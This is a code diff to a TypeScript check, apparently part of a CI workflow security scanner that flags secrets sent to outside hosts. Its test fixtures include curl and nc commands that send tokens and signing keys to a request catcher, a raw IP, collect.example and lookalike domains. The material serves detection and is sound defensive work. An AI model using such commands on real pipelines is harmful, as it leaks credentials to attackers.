@@ -1,6 +1,7 @@
-import { stepScopes } from '../../../evidence/parse/workflow/flow/scope.ts';
+import { scriptScopes } from '../../../evidence/parse/workflow/flow/scope.ts';
 import { type SentSecret, sentSecrets } from '../../../evidence/parse/workflow/flow/sent-secrets.ts';
 import { defineCheck } from '../../define-check.ts';
+import { examplesFinding, soundExamples } from '../support/example-groups.ts';
 import { jobOn } from '../support/example-workflow.ts';
 import { placeOfCommand } from '../support/place.ts';
 
@@ -43,20 +44,17 @@ export default defineCheck({
     'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information',
   ],
   run({ workflows }) {
-    return stepScopes(workflows).flatMap((scope) => {
-      const { run } = scope.step;
-      const sent = run ? sentSecrets(run.value, scope) : [];
-      return distinct(sent).map(({ kind, command, host }) => ({
+    return scriptScopes(workflows).flatMap(({ scope, run }) =>
+      distinct(sentSecrets(run.value, scope)).map(({ kind, command, host }) => ({
         problem: kind,
-        location: placeOfCommand(scope, scope.step.run ?? scope.step, command.text, `run ${command.name} ${host}`),
+        location: placeOfCommand(scope, run, command.text, `run ${command.name} ${host}`),
         evidence: `${command.text.slice(0, 300)}\nTo: ${host}`,
-      }));
-    });
+      })),
+    );
   },
   examples: () => [
-    {
-      name: 'to a request catcher, an address, a name server and a raw connection',
-      given: jobOn(
+    ...examplesFinding(['collector', 'collector', 'channel', 'channel'], {
+      'to a request catcher, an address, a name server and a raw connection': jobOn(
         'push',
         `- run: curl -d "t=\${{ secrets.API_TOKEN }}" https://abc123.webhook.site/
 - run: echo "$KEY" | base64 | curl --data @- https://203.0.113.9/x
@@ -67,11 +65,9 @@ export default defineCheck({
     echo "$VALUE" | nc collect.example 443
   env: { KEY: "\${{ secrets['SIGNING_KEY'] }}" }`,
       ),
-      finds: ['collector', 'collector', 'channel', 'channel'],
-    },
-    {
-      name: 'unencrypted, and to a host that has nothing to do with it',
-      given: jobOn(
+    }),
+    ...examplesFinding(['plaintext', 'foreign', 'foreign'], {
+      'unencrypted, and to a host that has nothing to do with it': jobOn(
         'push',
         `- run: |
     curl -H "Authorization: Bearer \${{ secrets.ACME_TOKEN }}" \\
@@ -80,22 +76,18 @@ export default defineCheck({
   env: { KEY: "\${{ secrets.SIGNING_KEY }}" }
 - run: curl -u "x:\${{ github.token }}" https://api.acme-mirror.example`,
       ),
-      finds: ['plaintext', 'foreign', 'foreign'],
-    },
-    {
-      name: 'to a second host that only begins like the first',
-      given: jobOn(
+    }),
+    ...examplesFinding(['foreign'], {
+      'to a second host that only begins like the first': jobOn(
         'push',
         `- run: |
     curl https://hub.vendor.example https://vendor.example.collect.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
     curl https://hub.vendor.example https://api.vendor.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
     curl https://s3.vendor.example https://s3.vendor.example.cn -H "X-Auth: \${{ secrets.VENDOR_KEY }}"`,
       ),
-      finds: ['foreign'],
-    },
-    {
-      name: 'to the service it is for, to the own host, to a host that is a secret, and locally',
-      given: jobOn(
+    }),
+    ...soundExamples({
+      'to the service it is for, to the own host, to a host that is a secret, and locally': jobOn(
         'push',
         `- run: |
     curl -H "Authorization: Bearer \${{ secrets.VENDOR_TOKEN }}" https://api.vendor.example/v1
@@ -114,8 +106,7 @@ export default defineCheck({
   run: curl -d "has=$HAS" https://status.example
   env: { HAS: "\${{ secrets.API_TOKEN != '' }}" }`,
       ),
-      finds: [],
-    },
+    }),
   ],
 });
 
